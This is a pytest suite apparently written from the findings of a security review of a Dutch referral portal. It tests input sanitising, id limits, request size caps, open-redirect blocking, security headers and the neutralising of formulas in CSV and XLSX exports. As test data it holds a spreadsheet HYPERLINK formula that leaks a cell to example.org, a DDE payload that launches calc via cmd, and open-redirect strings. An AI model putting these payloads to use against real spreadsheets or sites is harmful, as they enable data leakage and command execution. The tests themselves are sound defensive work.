"""Bad input and hostile requests: each finding of the security review, one test each."""

from __future__ import annotations

import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

import portal
from portal.extensions import db
from portal.models import Channel, Kpi, MessageKind, MessageText, Theme, User

from .factories import add_partner_referral, add_referral, csv_rows

HOSTILE_NAME = '=HYPERLINK("https://example.org/?leak="&A1,"Klik hier")'
KPI_FORM = {
    "name": "Gezinnen bereikt",
    "target": "300",
    "unit": "households",
    "rule": "reached",
    "theme_id": "0",
    "activity_kind": "",
    "start_month": "10",
    "municipality_id": "0",
    "position": "0",
    "active": "y",
}


# NUL bytes and control characters ------------------------------------------------------


def test_nul_byte_in_a_catalogue_name_is_removed_before_it_is_stored(client, world):
    client.login(world.admin.email)
    response = client.post("/admin/c/themes/new", {"name": "Mo\x00bili\x07teit", "position": "4"})
    assert response.status_code == 303
    assert db.session.scalar(select(Theme.name).where(Theme.name.like("Mo%"))) == "Mobiliteit"


def test_nul_byte_in_the_anonymous_login_form_is_a_refused_login(client, world):
    response = client.post("/login", {"email": f"{world.desk.email}\x00", "password": "x\x00y"})
    assert response.status_code == 422
    assert "E-mailadres of wachtwoord klopt niet." in response.get_data(as_text=True)


def test_nul_byte_in_a_calendar_address_is_not_found(client, world):
    assert client.get("/agenda/feed/abc%00def.ics").status_code == 404
    assert client.get("/agenda/feed/%00.ics").status_code == 404


def test_nul_byte_in_a_query_argument_is_ignored(client, world):
    client.login(world.toeleider.email)
    response = client.get("/queue/?q=Haddad%00&language=a%00r&residence=%00")
    assert response.status_code == 200


def test_text_areas_keep_their_lines_but_lose_control_characters(client, world):
    client.login(world.admin.email)
    client.post("/admin/texts/slip/ar", {"body": "Eerst\r\n\tdan\x1b[31m rood\x00"})
    db.session.expire_all()
    text = db.session.scalar(
        select(MessageText.body).where(
            MessageText.language_code == "ar", MessageText.kind == MessageKind.SLIP
        )
    )
    assert text == "Eerst\r\n\tdan[31m rood"


# Numbers: 32-bit ids, ASCII digits only -------------------------------------------------


@pytest.mark.parametrize("number", [2**31, 2**31 + 7, 2**63, 2**64, 10**30])
def test_ids_of_2_to_the_31_or_more_are_not_found(client, world, number):
    client.login(world.admin.email)
    assert client.get(f"/admin/users/{number}").status_code == 404
    assert client.get(f"/admin/c/themes/{number}").status_code == 404
    client.post("/logout", {})
    client.login(world.toeleider.email)
    assert client.get(f"/referrals/{number}").status_code == 404
    assert client.post(f"/queue/{number}/claim", {}).status_code == 404
    # In a query string such an id chooses nothing.
    assert client.get(f"/queue/?municipality={number}&source={number}").status_code == 200
    assert client.get(f"/queue/letters/print?id={number}").status_code == 200


def test_a_number_field_beyond_an_integer_column_is_a_dutch_error(client, world):
    client.login(world.admin.email)
    response = client.post("/admin/c/themes/new", {"name": "Groot", "position": str(2**40)})
    assert response.status_code == 422
    assert db.session.scalar(select(func.count()).select_from(Theme)) == 0


@pytest.mark.parametrize("digits", ["²", "①", "١٢", "²⁰²⁶", "1_000", "+3", " 4"])
def test_superscript_circled_and_other_digits_in_ids_pages_and_years(client, world, digits):
    from portal.inputs import ascii_int

    assert ascii_int(digits) is None
    client.login(world.lead.email)
    for path in [
        f"/lead/signals?page={digits}",
        f"/lead/list/unclaimed?page={digits}",
        f"/reports/monthly?year={digits}",
        f"/reports/monthly.csv?year={digits}&municipality={digits}",
        f"/reports/kpis?year={digits}",
        f"/reports/evaluation?year={digits}",
        f"/groupwork/activities?year={digits}&page={digits}",
    ]:
        assert client.get(path).status_code == 200, path
    client.post("/logout", {})
    client.login(world.admin.email)
    assert client.get(f"/admin/c/themes/{digits}").status_code == 404
    assert client.get(f"/admin/users/{digits}").status_code == 404
    assert client.get(f"/privacy/access-log?page={digits}&user={digits}").status_code == 200


def test_birth_years_in_other_digits_are_a_dutch_error(client, world):
    from portal.desk.rules import parse_birth_years

    with pytest.raises(ValueError):
        parse_birth_years("²⁰¹⁵", 2026)
    client.login(world.desk.email)
    response = client.post("/desk/duplicates", {"birth_year": "²⁰¹⁵", "full_name": "A"})
    assert response.status_code != 500


def test_an_unknown_kpi_unit_is_a_form_error(client, world):
    client.login(world.admin.email)
    response = client.post("/admin/c/kpis/new", {**KPI_FORM, "unit": "kilograms"})
    assert response.status_code == 422
    assert 'id="unit-error"' in response.get_data(as_text=True)
    assert db.session.scalars(select(Kpi)).all() == []


# Query arguments passed on to links -----------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/reports/kpis",
        "/reports/evaluation",
        "/reports/monthly",
        "/privacy/access-log",
    ],
)
def test_method_and_unknown_query_arguments_on_report_pages_are_ignored(client, world, path):
    client.login(world.admin.email if "privacy" in path else world.lead.email)
    hostile = "_method=POST&_external=1&_anchor=x&_scheme=javascript&key=1&endpoint=x&page=2"
    response = client.get(f"{path}?{hostile}&year=2026")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "_method" not in html and "javascript" not in html


def test_method_query_argument_on_the_queue_pager_is_ignored(client, world):
    for _ in range(30):
        add_referral(db.session, world)
    client.login(world.toeleider.email)
    response = client.get("/queue/?_method=POST&endpoint=x&q=")
    assert response.status_code == 200
    links = re.findall(r'href="([^"]*)"', response.get_data(as_text=True))
    assert "/queue/?page=2&amp;q=" in links
    assert not [link for link in links if "_method" in link or "endpoint" in link]


# Request size ---------------------------------------------------------------------------


def test_the_one_megabyte_request_limit_is_applied(client, world):
    client.login(world.admin.email)
    big = "x" * (1024 * 1024 + 10)
    response = client.post("/admin/c/themes/new", {"name": big, "position": "1"})
    assert response.status_code == 413
    assert "te groot" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Theme)) == 0


def test_an_anonymous_large_login_post_is_refused_unread(client, world):
    big = "x" * (30 * 1024 * 1024)
    response = client.post("/login", {"email": big, "password": "x"})
    assert response.status_code == 413
    html = response.get_data(as_text=True)
    assert "te groot" in html and "xxxxxxxxxx" not in html
    # A login far below a megabyte but beyond the login's own limit is refused too.
    response = client.post("/login", {"email": "y" * 100_000, "password": "x"})
    assert response.status_code == 413
    # The second step of the login is as small.
    assert client.post("/login/code", {"code": "1" * 100_000}).status_code == 413


# Open redirect --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/\t/example.org/",
        "/\n/example.org/",
        " //example.org/",
        "/\\example.org/",
        "\x00//example.org",
        "https://example.org/",
        "/\u200b/example.org/",
        "///example.org/",
    ],
)
def test_no_open_redirect_through_next_before_and_after_login(client, world, target):
    from urllib.parse import quote

    query = quote(target, safe="")
    page = client.get(f"/login?next={query}").get_data(as_text=True)
    assert "example.org" not in page
    response = client.post(
        "/login", {"email": world.desk.email, "password": "juist-wachtwoord-123", "next": target}
    )
    assert response.status_code == 303
    assert response.headers["Location"] == "/desk/"
    after = client.get(f"/login?next={query}")
    assert after.status_code == 302
    assert after.headers["Location"] == "/desk/"


def test_next_on_this_site_still_brings_you_back(client, world):
    response = client.post(
        "/login",
        {"email": world.desk.email, "password": "juist-wachtwoord-123", "next": "/desk/?q=a"},
    )
    assert response.headers["Location"] == "/desk/?q=a"


# Formulas in exports --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+32 470", "'+32 470"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-", "-"),
        ("-12", "-12"),
        ("2026-01", "2026-01"),
        ("Jan\x00\x1bssens", "Janssens"),
        (12, 12),
    ],
)
def test_spreadsheet_cells_are_text_not_formulas(value, shown):
    from portal.downloads import spreadsheet_cell

    assert spreadsheet_cell(value) == shown


def test_kpi_csv_writes_a_hostile_name_as_text(client, world):
    db.session.add(
        Kpi(name=HOSTILE_NAME, target=5, unit="households", rule="reached", start_month=1)
    )
    db.session.commit()
    client.login(world.lead.email)
    rows = csv_rows(client.get("/reports/kpis.csv"))
    assert rows[1][0] == "'" + HOSTILE_NAME


def test_access_log_csv_writes_a_hostile_user_name_as_text(client, world):
    referral = add_referral(db.session, world)
    world.toeleider.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    client.login(world.toeleider.email)
    client.get(f"/referrals/{referral.id}")
    client.post("/logout", {})
    client.login(world.admin.email)
    rows = csv_rows(client.get("/privacy/access-log.csv"))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert any(row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0" for row in rows[1:])


def test_xlsx_export_has_no_live_hyperlink_and_survives_control_characters(client, world):
    # A partner and a theme named by an admin (or stored before control characters were
    # refused): the evaluation workbook of every lead shows them.
    referral = add_referral(db.session, world)
    world.partner.name = HOSTILE_NAME
    theme = Theme(name="Wo\x01nen\x1f")
    db.session.add_all([theme, Channel(name="Kanaal\x0b")])
    db.session.flush()
    add_partner_referral(db.session, referral, world.partner, theme, date(2026, 3, 2), world.desk)
    db.session.commit()
    client.login(world.lead.email)
    response = client.get("/reports/evaluation.xlsx?year=2026&part=interim")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + HOSTILE_NAME in values
    assert not any(isinstance(v, str) and "\x01" in v for v in values)


# Security headers -----------------------------------------------------------------------


def test_security_headers_with_hsts_over_https_only(client, world):
    plain = client.get("/login")
    assert "Strict-Transport-Security" not in plain.headers
    assert plain.headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert "camera=()" in plain.headers["Permissions-Policy"]
    assert "script-src 'self'" in plain.headers["Content-Security-Policy"]
    secure = client.get("/login", base_url="https://portal.example")
    assert secure.headers["Strict-Transport-Security"].startswith("max-age=31536000")


def test_users_table_unchanged_by_refused_login(client, world):
    before = db.session.scalar(select(func.count()).select_from(User))
    client.post("/login", {"email": "\x00", "password": "\x00"})
    assert db.session.scalar(select(func.count()).select_from(User)) == before


def test_a_multipart_part_without_a_name_is_ignored(client, world):
    # Found by the fuzz test: a field name with a line break breaks the part's headers.
    response = client.post("/login", {"\r\n": "", "email": "x"}, content_type="multipart/form-data")
    assert response.status_code in (401, 422)


def test_every_spreadsheet_writer_goes_through_the_shared_cell_function():
    """A new CSV or XLSX export cannot skip the formula neutralising by accident."""
    root = Path(portal.__file__).parent
    for path in root.rglob("*.py"):
        source = path.read_text()
        if path.name != "downloads.py":
            assert "csv.writer" not in source, path
        # Readers (the population register's import) load workbooks; writers make them.
        if "openpyxl" in source and "Workbook(" in source:
            appends = re.findall(r"\.append\((\w+)", source)
            assert appends and set(appends) == {"spreadsheet_row"}, path
            assert ".cell(" not in source and "].value =" not in source, path


def test_the_login_limit_leaves_room_for_a_long_form_of_an_expired_session(app, client, world):
    from werkzeug.datastructures import MultiDict

    from portal import recovery

    long_text = "€" * 2000  # three bytes each: the longest text areas, three of them
    values = MultiDict([("full_name", "Rania Haddad")] + [("note", long_text)] * 3)
    with app.test_request_context():
        resume = recovery.pack("desk.intake", values, world.desk.id)
    response = client.post(
        "/login", {"email": world.desk.email, "password": "juist-wachtwoord-123", "resume": resume}
    )
    assert response.status_code != 413
    assert len(resume) > 20_000
